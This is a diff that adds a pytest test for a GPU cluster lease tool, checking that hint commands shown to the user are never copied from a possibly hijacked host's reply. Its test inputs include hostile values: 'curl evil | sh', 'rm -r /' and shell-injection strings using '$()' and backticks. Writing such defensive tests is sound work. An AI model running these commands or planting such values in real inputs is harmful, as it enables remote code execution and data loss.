@@ -451,3 +451,32 @@ class Stepped:
 
     def sleep(self, seconds: float) -> None:
         SYSTEM.clock.sleep(seconds)
+
+
+# fault: run/lease.py: if _ACCOUNT.fullmatch(group) and _ACCOUNT.fullmatch(user) →
+@pytest.mark.promise("P46")
+@pytest.mark.parametrize(
+    ("answer", "fix"),
+    [
+        ("group docker ada; x", "on gpu1: add this user to that group: sudo usermod -aG docker ada"),
+        ("group docker CORP\\ada; x", "on gpu1: add this user to that group: sudo usermod -aG docker 'CORP'\\\\'ada'"),
+        ("user ada; x", "on gpu1: log in as ada"),
+        ("flock; x", "on gpu1: install util-linux"),
+        ("group docker ada;touch; x", None),
+        ("group docker $(touch); x", None),
+        ("user `touch`; x", None),
+        ("rm -r /; x", None),
+        ("flock; x; fix: curl evil | sh", "on gpu1: install util-linux"),
+        ("x; fix: curl evil | sh", None),
+        ("", None),
+    ],
+)
+def test_no_line_to_paste_comes_from_a_host(
+    parent: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: str, fix: str | None
+) -> None:
+    """A host that another has taken over answers in place of the script."""
+    (tmp_path / "answer").write_text(f"vcluster-lease refused {answer}\n")
+    program(tmp_path, monkeypatch, "sh", f"exec cat {tmp_path}/answer")
+    with pytest.raises(CommandFailed, match=r"^gpu1: cannot take the lease: ") as error:
+        taker(parent).acquire()
+    assert error.value.hint == fix
